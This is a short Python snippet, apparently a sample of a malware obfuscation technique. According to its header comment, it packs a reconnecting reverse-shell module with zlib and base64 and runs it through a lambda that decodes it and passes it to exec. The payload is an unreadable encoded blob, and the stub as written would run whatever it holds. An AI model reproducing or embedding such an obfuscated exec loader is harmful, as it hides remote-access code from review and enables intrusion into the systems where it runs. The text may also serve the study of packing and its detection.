# technique: packer-style stub: a whole reconnecting reverse-shell module zlib+base64 packed, wrapped in a lambda that decodes and execs it
import base64, zlib
_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::1]))
exec((_)(b''
    b'eNqNU9uK2zAQfddXDOmLDV6tnaSFBvLUBlpYmrCbPpRQgmyPaxGv5Eryptuv70h2biSUFRaWRjNn'
    b'ztzegcOiVvJ3hzOw2GDhovguFxZLMNiIV8jR7REVCPg0BquLHToQqqQNUjk0onDyBcHW2DRgu7w1'
    b'ukBrYS9dDa1s0SaEVGilCFuqX6AVVEI2nUEmn1ttHGh7OPUMjrfg7Xg7Yh8kTj4jYw9flk9rmMNo'
    b'nE54yrNswrN0xB5Wy0cvnk4n7HGxfvxB5+w9Y6zEivxYK7WKvId4xoCWrUnh5IOvdIsq2ozuc6nu'
    b'KSH1KIHRnRz9TMC6Uqr5ue7X1SIJKLcXGejOXVl4ORpzLn9af15+X/8PK+8qK//iPI2DEuFuq9JT'
    b'r3nvhleyQaWj/n1f080/trppohikhW9a4ezowSSwpc8jhOTzoQs2PjfJgE9Bb4ad8cGzX7IKRaJO'
    b'ADO7IF0KJzwmvXIq/0uUpeNpfKFCxkq7oDm7Cjg3KHYX0j5AqfjeSIeRN4tvK1RNZ+voguWQpmue'
    b'Rd2pHRHVlmiKMuoVE5imHz/cpBsM3sTXh25RlYISH6x6PGdeT+bEeSd9YYIE/xTYOliEH/XnSa8V'
    b'1PaM9dVcm24o4CXWkG90vCA2DreHqaNOj8KYJBDGIj5FdpyEMxEvGm3xbZwCC5pDbhvENgqTFrN/'
    b'42Y5Uw=='
))
